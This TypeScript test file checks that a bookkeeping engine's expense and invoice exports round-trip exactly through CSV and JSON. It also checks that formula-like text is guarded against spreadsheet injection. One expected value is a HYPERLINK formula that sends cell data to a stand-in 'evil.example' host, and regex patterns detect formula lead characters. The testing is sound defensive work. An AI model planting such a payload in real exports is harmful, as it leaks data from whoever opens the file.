import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { importCsv } from '../../src-engine/data/csv-import.js';
import { generateDemo } from '../../src-engine/data/demo.js';
import { compareRollups } from '../../src-engine/store/rollups.js';
import { Store } from '../../src-engine/store/store.js';
import { updateClient } from '../../src-engine/store/writes/clients.js';
import { createExpense } from '../../src-engine/store/writes/expenses.js';
import { tempDir } from '../helpers/tmp.js';
import { addCompany, csvStream, exportText } from './helpers.js';
import { HOSTILE } from './hostile.js';

let tmp: ReturnType<typeof tempDir>;
let store: Store;
beforeEach(() => {
  tmp = tempDir();
  store = Store.open(tmp.path('books.db'));
  generateDemo(store, { companies: 3, expenses: 900, invoices: 150, today: '2026-03-15' });
});
afterEach(() => {
  store.close();
  tmp.cleanup();
});

describe('export → import into a fresh company → export', () => {
  for (const kind of ['expenses', 'invoices'] as const) {
    it(`gives identical ${kind} CSV, for MYR and SGD books`, async () => {
      for (const [source, currency] of [
        [1, 'MYR'],
        [3, 'SGD'],
      ] as const) {
        const first = exportText(store.db, source, kind);
        const fresh = addCompany(store.db, `Copy of ${source}`, currency);
        const r = await importCsv(store, fresh, kind, csvStream(first));
        expect(r.rejected).toBe(0);
        expect(r.imported).toBe(first.trim().split('\n').length - 1);
        expect(exportText(store.db, fresh, kind)).toBe(first);
        expect(exportText(store.db, fresh, kind, 'json')).toBe(exportText(store.db, source, kind, 'json'));
      }
      expect(compareRollups(store.db)).toEqual([]);
    });
  }
});

describe('hostile text survives the round trip exactly and leaves every file guarded', () => {
  it('formula-like descriptions and client names: export guards them, import restores the stored values', async () => {
    // Through the write API: these strings are valid text, so they can be stored as they are.
    HOSTILE.forEach((description, i) => createExpense(store, 1, { date: '2026-03-01', category: 'travel', description, amount: 1500 + i }));
    createExpense(store, 1, { date: '2026-03-02', category: 'travel', description: 'tab\tinside', amount: 1 });
    const clientIds = store.db
      .prepare('SELECT id FROM clients WHERE company_id = 1 ORDER BY id LIMIT ?')
      .pluck()
      .all(HOSTILE.length) as number[];
    clientIds.forEach((id, i) => updateClient(store, 1, id, { name: `${HOSTILE[i]!} ${i}` }));
    for (const kind of ['expenses', 'invoices'] as const) {
      const first = exportText(store.db, 1, kind);
      expect(first).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")`);
      expect(first).toContain(`"'-2+3`);
      for (const line of first.split('\n')) {
        // No cell starts with a formula character: each one is after a line start or a comma, optionally in quotes.
        expect(line).not.toMatch(/(^|,)"?[=+@\t\uFF1D]/);
        expect(line).not.toMatch(/(^|,)"?-(?!\d+(\.\d+)?(,|$))/);
      }
      const fresh = addCompany(store.db, `Hostile copy ${kind}`);
      const r = await importCsv(store, fresh, kind, csvStream(first));
      expect(r.errors).toEqual([]);
      expect(exportText(store.db, fresh, kind)).toBe(first);
      expect(exportText(store.db, fresh, kind, 'json')).toBe(exportText(store.db, 1, kind, 'json'));
    }
    const stored = store.db
      .prepare(
        "SELECT description FROM expenses WHERE company_id > 3 AND date = '2026-03-01' AND amount BETWEEN 1500 AND ? ORDER BY amount",
      )
      .pluck()
      .all(1500 + HOSTILE.length - 1);
    expect(stored).toEqual(HOSTILE);
    expect(compareRollups(store.db)).toEqual([]);
  });
});

describe('export formats', () => {
  it('writes the import columns with decimal amounts, as CSV and as a JSON array', () => {
    const csv = exportText(store.db, 1, 'expenses');
    expect(csv.split('\n')[0]).toBe('date,category,description,amount,reimbursable,client');
    expect(csv.split('\n')[1]).toMatch(/^\d{4}-\d{2}-\d{2},[a-z_]+,[^,]*,\d+\.\d{2},(true|false),/);
    const json = JSON.parse(exportText(store.db, 1, 'invoices', 'json')) as Record<string, unknown>[];
    expect(json).toHaveLength(50);
    expect(Object.keys(json[0]!)).toEqual([
      'number',
      'client',
      'status',
      'issue_date',
      'due_date',
      'paid_date',
      'subtotal',
      'tax_rate',
      'tax',
      'total',
    ]);
    expect(json[0]!.total).toMatch(/^\d+\.\d{2}$/);
    const empty = addCompany(store.db);
    expect(exportText(store.db, empty, 'expenses', 'json')).toBe('[]\n');
  });
});
